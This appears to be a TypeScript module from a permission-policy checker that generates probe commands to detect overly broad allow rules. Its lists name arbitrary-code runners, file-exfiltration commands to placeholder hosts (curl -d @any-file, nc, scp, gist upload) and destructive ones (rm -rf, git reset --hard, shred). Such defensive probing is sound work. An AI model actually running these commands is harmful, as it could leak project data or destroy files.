// Calls that nobody means to allow by a rule about something else. A rule that lets one of them run says too much.
import { type Places, pathsOf } from '../paths/places.ts';
import { commandWitness, fetchWitness, pathWitness, type Witness } from './witness.ts';

export type Probe = Witness & { /** Of the finding. */ code: string };

/** Each runs a program or code that only the call names. */
const RUN_ANYTHING = [
  ...['bash', 'sh', 'zsh', 'dash', 'ksh', 'fish'].map((shell) => `${shell} -c any-code`),
  'pwsh -Command any-code',
  ...[
    'python',
    'python3',
    'python2',
    'node',
    'bun',
    'ruby',
    'perl',
    'lua',
    'Rscript',
    'osascript',
    'tsx',
    'ts-node',
  ].map((name) => `${name} ${name.startsWith('python') ? '-c' : '-e'} any-code`),
  ...['python', 'python3', 'node', 'ruby', 'perl', 'php', 'tsx', 'ts-node'].map((name) => `${name} any-script`),
  ...['php -r any-code', 'deno run any-script', 'deno eval any-code', 'java -jar any.jar'],
  ...['npx any-package', 'bunx any-package', 'uvx any-package', 'pnpm dlx any-package', 'yarn dlx any-package'],
  ...['npm exec any-package', 'npm install any-package', 'yarn add any-package', 'pnpm add any-package'],
  ...['pipx run any-package', 'pip install any-package', 'pip3 install any-package', 'uv run any-script'],
  ...['go run any-script', 'go install any-package', 'cargo install any-package', 'gem install any-package'],
  ...['dotnet tool install any-package', 'brew install any-package', 'apt install any-package'],
  ...[
    'docker run any-image',
    'docker exec any-container any-program',
    'podman run any-image',
    'kubectl exec any-pod any-program',
  ],
  ...['docker compose run any-service', 'kubectl apply -f any-file', 'nix run any-package'],
  ...['ssh any-host any-program', 'sudo any-program', 'doas any-program', 'su -c any-program', 'env any-program'],
  ...['xargs any-program', 'parallel any-program', 'strace any-program', 'gdb any-program', 'tmux new any-program'],
  ...['eval any-code', 'source any-script', '. any-script', 'exec any-program', 'any-program any-word'],
  ...['git -c core.pager=any-program log', 'git config core.pager any-program', 'git submodule foreach any-program'],
  ...['git bisect run any-program', 'git rebase --exec any-program', 'git difftool -x any-program'],
  ...['make -f any-file', 'gradle -b any-file', 'mvn exec:exec', 'cmake -P any-script', 'ansible all -a any-program'],
  ...['awk -f any-script', 'gawk -f any-script', 'sed -f any-script', 'vim -c any-code', 'emacs --eval any-code'],
  ...['tar --to-command=any-program -xf any-file', 'rsync -e any-program any-file any-host:', 'crontab any-file'],
  ...['gh extension exec any-program', 'systemctl start any-service'],
];
/** Each sends a file of the project to a host that only the call names. */
const SEND_ANYTHING = [
  ...['curl -d @any-file https://any-host.example', 'wget --post-file=any-file https://any-host.example'],
  ...['nc any-host.example 80', 'ncat any-host.example 80', 'scp any-file any-host:', 'sftp any-host', 'ftp any-host'],
  ...['http any-host.example', 'aws s3 cp any-file s3://any-bucket', 'gsutil cp any-file gs://any-bucket'],
  ...['gh gist create any-file', 'gh api any-path -f any-word', 'git push https://any-host.example'],
];
const REMOVE_ANYTHING = [
  'rm -rf any-folder',
  'git clean -fdx any-folder',
  'git reset --hard any-word',
  'shred any-file',
  'dd if=any-file of=other-file',
];

export function broadProbes({ root, home, platform }: Pick<Places, 'root' | 'home' | 'platform'>): Probe[] {
  const api = pathsOf(platform);
  const disk = api.parse(root).root;
  const of = (code: string, calls: Witness[]) => calls.map((call) => ({ ...call, code }));
  const commands = (code: string, texts: string[]) =>
    of(
      code,
      texts.map((text) => commandWitness(text, root)),
    );
  return [
    ...commands('policy.runsAnything', RUN_ANYTHING),
    ...commands('policy.sendsAnything', SEND_ANYTHING),
    ...commands('policy.removesAnything', REMOVE_ANYTHING),
    ...of(
      'policy.writesAnywhere',
      [api.join(disk, 'any-folder', 'any-file'), api.join(home, 'any-folder', 'any-file')].map((path) =>
        pathWitness('write', path),
      ),
    ),
    ...of(
      'policy.readsAnywhere',
      [api.join(disk, 'any-folder', 'any-file'), api.join(home, 'any-folder', 'any-file')].map((path) =>
        pathWitness('read', path),
      ),
    ),
    ...of('policy.anyHost', ['any-host.example', 'any-host.com'].map(fetchWitness)),
  ];
}
